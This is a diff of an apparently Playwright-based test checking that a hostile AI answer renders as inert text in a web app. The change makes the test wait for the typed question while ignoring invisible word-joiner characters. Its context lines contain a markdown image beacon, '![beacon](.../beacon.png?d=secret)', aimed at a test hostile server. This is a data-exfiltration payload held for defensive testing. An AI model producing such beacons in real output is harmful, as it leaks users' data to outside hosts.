@@ -176,7 +176,13 @@ def test_hostile_answer_renders_as_text_and_loads_nothing(hostile_app, hostile, 
     assert f"![beacon]({hostile.base}/beacon.png?d=secret)" in first.inner_text()
     assert f"[click]({hostile.base}/link)" in first.inner_text()
     # The question is shown as typed, not rendered.
-    assert page.get_by_text(question, exact=True).count() >= 1
+    # The question is shown as typed (the page puts word joiners after ':' so nothing turns it into a link or an
+    # emoji; they are invisible): in the finished comparison's heading, drawn by its rerun.
+    page.wait_for_function(
+        "q => document.querySelector('[data-testid=stMain]').innerText.replaceAll('\\u2060', '').includes(q)",
+        arg=question,
+        timeout=30_000,
+    )
     # Nothing in the page loads from or links to the hostile server, and it never saw such a request.
     for selector in ("img", "a", "iframe", "link", "source", "video", "audio"):
         for attr in ("src", "href", "srcset", "data"):
